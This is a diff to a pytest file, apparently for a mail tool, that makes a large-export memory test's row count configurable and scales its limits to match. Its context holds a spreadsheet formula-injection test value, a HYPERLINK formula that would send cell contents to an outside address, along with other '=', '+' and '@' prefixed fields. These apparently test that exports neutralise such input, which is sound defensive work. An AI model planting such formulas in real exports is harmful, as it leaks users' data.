@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
 import re
 import subprocess
 import sys
@@ -25,6 +26,9 @@ from tests.store.history_samples import BOB, INBOX, NOON, RUN, seen
 
 DOCS = Path(__file__).parents[2] / "docs" / "history.md"
 xlsx = pytest.mark.skipif(not find_spec("xlsxwriter"), reason="XlsxWriter is not installed")
+# `make soak` exports 100,000. What grows with the rows would take a kilobyte or more for each.
+ROWS = int(os.environ.get("MAILMON_ROWS", "20000"))
+MAX_GROWN_KIB = {20_000: 16, 100_000: 40}.get(ROWS, 40) * 1024
 EVIL = '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")'
 ORIGINAL = Original(EVIL, "-1, two\r\nlines", "@x", ("+a@example.org", "=b@example.org"), ())
 
@@ -143,10 +147,10 @@ print(peak_kib() - before, time.perf_counter() - began, before)
 
 @pytest.fixture(scope="module")
 def large(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """Return a state file with 100,000 bounces beside it."""
+    """Return a state file with ROWS bounces beside it."""
     state_file = tmp_path_factory.mktemp("large") / "state.json"
     with History(state_file, NOON) as history:
-        for begin in range(0, 100_000, 1000):
+        for begin in range(0, ROWS, 1000):
             batch = [seen(uid, BOB, age=timedelta(seconds=uid)) for uid in range(begin + 1, begin + 1001)]
             history.record(INBOX, begin + 1000, batch, RUN)
     return state_file
@@ -156,10 +160,10 @@ def large(tmp_path_factory: pytest.TempPathFactory) -> Path:
 @pytest.mark.parametrize(
     ("form", "mask"), [("csv", ""), ("csv", "mask"), ("json", ""), pytest.param("xlsx", "", marks=xlsx)]
 )
-def test_100_000_rows_are_exported_in_little_memory(large: Path, form: str, mask: str) -> None:
+def test_many_rows_are_exported_in_little_memory(large: Path, form: str, mask: str) -> None:
     command = [sys.executable, "-c", PROGRAM, str(large), form, mask]
     said = subprocess.run(command, capture_output=True, text=True, check=True).stdout.split()
     grown_kib, took_s = int(said[0]), float(said[1])
-    assert grown_kib < 40 * 1024, f"{form}: {grown_kib} KiB in {took_s:.1f} s"
-    assert large.with_name("out").stat().st_size > 1_000_000
+    assert grown_kib < MAX_GROWN_KIB, f"{form}: {grown_kib} KiB in {took_s:.1f} s"
+    assert large.with_name("out").stat().st_size > 10 * ROWS
     print(form, mask, said)
